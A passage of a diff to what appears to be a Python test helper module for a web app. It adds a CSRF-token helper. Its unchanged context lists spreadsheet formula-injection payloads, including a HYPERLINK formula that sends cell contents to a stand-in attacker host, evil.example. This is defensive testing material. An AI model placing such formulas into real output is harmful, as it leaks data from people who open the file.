@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
 import signal
 import socket
@@ -19,12 +20,20 @@ from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
+from typing import Any
 
 import httpx
 
 ROOT = Path(__file__).resolve().parents[2]
 ADMIN_TOKEN = "admin-secret-token"
 GIB = 1 << 30
+
+def with_csrf(client: Any, data: dict[str, Any], page: str = "/") -> dict[str, Any]:
+    """``data`` plus a CSRF token from ``page`` (the client keeps the CSRF cookie), as a browser would send."""
+    found = re.search(r'name="csrf_token" value="([^"]+)"', client.get(page).text)
+    assert found, f"{page} has no CSRF field"
+    return {**data, "csrf_token": found.group(1)}
+
 
 # Payloads that attack whoever reads our output: spreadsheets (formulas) and browsers (HTML, templates).
 FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
